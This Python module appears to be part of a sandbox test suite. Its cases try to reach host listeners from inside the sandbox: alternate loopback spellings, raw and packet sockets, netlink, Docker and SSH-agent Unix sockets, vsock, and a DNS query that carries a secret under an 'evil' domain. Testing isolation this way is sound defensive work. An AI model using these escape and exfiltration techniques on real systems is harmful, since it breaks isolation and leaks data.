"""Attacks over sockets: the host listens on every kind of address it has, and waits to be called.

FAMILY.cases  # the list, in order
"""

from __future__ import annotations

import contextlib
import os
import socket
import struct
import time
from collections.abc import Callable
from pathlib import Path

from capsule.attack import host
from capsule.attack.case import Family
from capsule.attack.inside import Inside
from capsule.attack.judges import no_harm, not_heard
from capsule.attack.stage import Stage

FAMILY = Family(not_heard)
case = FAMILY.case
MPTCP = 262


def _listen(stage: Stage, family: int, kind: int, address: object, protocol: int = 0) -> host.Listener:
    listener = host.Listener(family, kind, address, protocol)
    stage.resources.callback(listener.close)
    listeners = stage.notes.setdefault("listeners", [])
    assert isinstance(listeners, list)
    listeners.append(listener)
    return listener


def _tcp(*addresses: str, kind: int = socket.SOCK_STREAM) -> Callable[[Stage], None]:
    def prepare(stage: Stage) -> None:
        listener = _listen(stage, socket.AF_INET, kind, (addresses[0], 0))
        stage.extra["port"] = listener.address[1]
        stage.extra["lan"] = host.lan_address()

    return prepare


@case("net.tcp", 52, "TCP to a listener of the host", prepare=_tcp("0.0.0.0"))
def tcp(a: Inside) -> None:
    for address in ("127.0.0.1", a.extra["lan"] or "127.0.0.1"):
        with socket.socket() as one:
            one.settimeout(1)
            a.attempt(one.connect, (address, a.extra["port"]))


@case(
    "net.loopback-names",
    51,
    "the host's loopback by its other spellings: 0, mapped IPv6, 127.1, decimal",
    source="CVE-2024-29041",
    prepare=_tcp("0.0.0.0"),
)
def loopback_names(a: Inside) -> None:
    for family, address in (
        (socket.AF_INET, "0.0.0.0"),
        (socket.AF_INET6, "::ffff:127.0.0.1"),
        (socket.AF_INET6, "::ffff:7f00:1"),
        (socket.AF_INET6, "::"),
        (socket.AF_INET, "127.1"),
        (socket.AF_INET, "2130706433"),
        (socket.AF_INET, "127.255.255.254"),
    ):
        with contextlib.suppress(OSError), socket.socket(family) as one:
            one.settimeout(1)
            one.connect((address, a.extra["port"]))


def _tcp6(stage: Stage) -> None:
    stage.extra["port"] = _listen(stage, socket.AF_INET6, socket.SOCK_STREAM, ("::1", 0)).address[1]


@case("net.tcp6", 52, "TCP over IPv6 to the host's ::1", prepare=_tcp6, needs=("ipv6",))
def tcp6(a: Inside) -> None:
    with socket.socket(socket.AF_INET6) as one:
        one.settimeout(1)
        one.connect(("::1", a.extra["port"]))


@case("net.udp", 52, "UDP, connected and not, and sendmmsg", prepare=_tcp("0.0.0.0", kind=socket.SOCK_DGRAM))
def udp(a: Inside) -> None:
    for address in ("127.0.0.1", a.extra["lan"] or "127.0.0.1"):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
            a.attempt(one.sendto, b"out", (address, a.extra["port"]))
            a.attempt(one.sendmsg, [b"out"], [], 0, (address, a.extra["port"]))
            a.attempt(one.connect, (address, a.extra["port"]))
            a.attempt(one.send, b"out")


@case(
    "net.dns",
    47,
    "carry a secret out in the labels of a DNS question",
    prepare=_tcp("0.0.0.0", kind=socket.SOCK_DGRAM),
)
def dns(a: Inside) -> None:
    question = (
        b"\x12\x34\x01\x00\x00\x01\0\0\0\0\0\0"
        + bytes([len(a.mark)])
        + a.mark.encode()
        + b"\x04evil\0\0\x01\0\x01"
    )
    for address in ("127.0.0.1", "127.0.0.53", a.extra["lan"] or "127.0.0.1"):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
            a.attempt(one.sendto, question, (address, a.extra["port"]))


@case("net.tcp-fastopen", 52, "TCP Fast Open, which connects without connect()", prepare=_tcp("0.0.0.0"))
def tcp_fastopen(a: Inside) -> None:
    for address in ("127.0.0.1", a.extra["lan"] or "127.0.0.1"):
        with socket.socket() as one:
            a.attempt(one.sendto, b"out", 0x20000000, (address, a.extra["port"]))


@case("net.mptcp", 52, "multipath TCP, another protocol with the same wires", prepare=_tcp("0.0.0.0"))
def mptcp(a: Inside) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262) as one:
        one.settimeout(1)
        one.connect(("127.0.0.1", a.extra["port"]))


def _say_on_loopback(stage: Stage) -> None:
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
        for _ in range(3):
            one.sendto(stage.secret.encode(), ("127.0.0.1", 9))
            time.sleep(0.05)


@case(
    "net.packet",
    52,
    "listen to the host's packets (AF_PACKET)",
    needs=("root",),
    during=_say_on_loopback,
    judge=no_harm,
)
def packet(a: Inside) -> None:
    one = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
    one.settimeout(0.3)
    a.ready()
    for _ in range(6):
        a.say(one.recv(400))


@case(
    "net.raw",
    52,
    "raw IP and ICMP to the host",
    needs=("root",),
    prepare=_tcp("0.0.0.0", kind=socket.SOCK_DGRAM),
)
def raw(a: Inside) -> None:
    port = a.extra["port"]
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, 255) as one:
        datagram = struct.pack(">HHHH", 7, port, 11, 0) + b"out"
        head = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 31, 0, 0, 64, 17, 0, b"\x7f\0\0\1", b"\x7f\0\0\1")
        one.sendto(head + datagram, ("127.0.0.1", 0))


def _interfaces(stage: Stage) -> str | None:
    outside = [name for _, name in socket.if_nameindex() if name != "lo"]
    seen = [name for name in outside if name.encode() in stage.out.replace(b"#", b"")]
    return f"the host's interfaces can be listed: {seen[0]}" if seen else None


@case(
    "net.netlink", 52, "list the host's interfaces over netlink and /sys", judge=_interfaces, needs=("lan",)
)
def netlink(a: Inside) -> None:
    a.say(a.attempt(socket.if_nameindex))
    a.say(a.attempt(os.listdir, "/sys/class/net"))
    a.say(a.attempt(a.read, "/proc/net/dev"))
    with contextlib.suppress(OSError), socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as one:
        one.settimeout(0.5)
        one.send(struct.pack("IHHIIBBHiII", 32, 18, 0x301, 1, 0, 0, 0, 0, 0, 0, 0))
        a.say(one.recv(65536))


def _unix(kind: int) -> Callable[[Stage], None]:
    def prepare(stage: Stage) -> None:
        places = [stage.outside / "docker.sock", stage.home / ".ssh/agent", stage.ws / "service.sock"]
        places += [
            Path(folder, stage.id + ".sock") for folder in ("/tmp", "/run") if os.access(folder, os.W_OK)
        ]
        paths = []
        for path in places:
            _listen(stage, socket.AF_UNIX, kind, str(path))
            paths.append(str(path))
            stage.resources.callback(path.unlink, missing_ok=True)
        stage.extra["paths"] = paths

    return prepare


@case(
    "net.unix",
    44,
    "Unix sockets of the host by path: agents, docker, D-Bus",
    source="GHSA-27vp-2mmc-vmh3",
    prepare=_unix(socket.SOCK_STREAM),
)
def unix(a: Inside) -> None:
    for path in a.extra["paths"]:
        for name in (path, "/proc/self/root" + path, os.path.relpath(path)):
            with socket.socket(socket.AF_UNIX) as one:
                one.settimeout(1)
                a.attempt(one.connect, name)
        link = a.ws + f"/s{len(path)}"
        a.attempt(os.symlink, path, link)
        with socket.socket(socket.AF_UNIX) as one:
            a.attempt(one.connect, link)


@case(
    "net.unix-datagram",
    44,
    "datagrams to Unix sockets of the host: sendto, sendmsg, connected send",
    prepare=_unix(socket.SOCK_DGRAM),
)
def unix_datagram(a: Inside) -> None:
    for path in a.extra["paths"]:
        with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as one:
            a.attempt(one.sendto, b"out", path)
            a.attempt(one.sendmsg, [b"out"], [], 0, path)
            a.attempt(one.connect, path)
            a.attempt(one.send, b"out")


def _abstract(stage: Stage) -> None:
    _listen(stage, socket.AF_UNIX, socket.SOCK_STREAM, b"\0" + stage.id.encode())
    _listen(stage, socket.AF_UNIX, socket.SOCK_DGRAM, b"\0" + stage.id.encode() + b"d")
    stage.extra["name"] = stage.id


@case("net.abstract", 45, "abstract Unix sockets of the host", prepare=_abstract)
def abstract(a: Inside) -> None:
    name = b"\0" + a.extra["name"].encode()
    with socket.socket(socket.AF_UNIX) as one:
        a.attempt(one.connect, name)
    with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as one:
        a.attempt(one.sendto, b"out", name + b"d")
        a.attempt(one.connect, name + b"d")


def _call_in(stage: Stage) -> None:
    port = next(
        (
            int(line[6:])
            for line in stage.out.decode(errors="replace").splitlines()
            if line.startswith("port: ")
        ),
        0,
    )
    for address in ("127.0.0.1", host.lan_address() or "127.0.0.1"):
        with contextlib.suppress(OSError), socket.create_connection((address, port), timeout=0.5) as caller:
            if caller.recv(100):
                stage.notes["harm"] = f"a server of the sandbox answers on {address}"


@case("net.listen", 56, "listen on every address, to be called from outside", during=_call_in, judge=no_harm)
def listen(a: Inside) -> None:
    import threading

    server = socket.socket()
    server.bind(("0.0.0.0", 0))
    server.listen(8)

    def serve() -> None:
        while True:
            peer, _ = server.accept()
            peer.send(b"hello from inside")
            peer.close()

    threading.Thread(target=serve, daemon=True).start()
    a.say(f"port: {server.getsockname()[1]}")
    a.ready()


def _vsock(stage: Stage) -> None:
    try:
        stage.extra["port"] = _listen(
            stage, 40, socket.SOCK_STREAM, (1, 50000 + os.getpid() % 10000)
        ).address[1]
    except OSError:
        # Without vsock on this host the control fails too, and says so.
        stage.extra["port"] = 1
        stage.notes["listeners"] = []


@case(
    "net.vsock",
    52,
    "a virtual machine's socket to its host (AF_VSOCK), local form",
    prepare=_vsock,
)
def vsock(a: Inside) -> None:
    with socket.socket(40, socket.SOCK_STREAM) as one:
        one.settimeout(1)
        one.connect((1, a.extra["port"]))
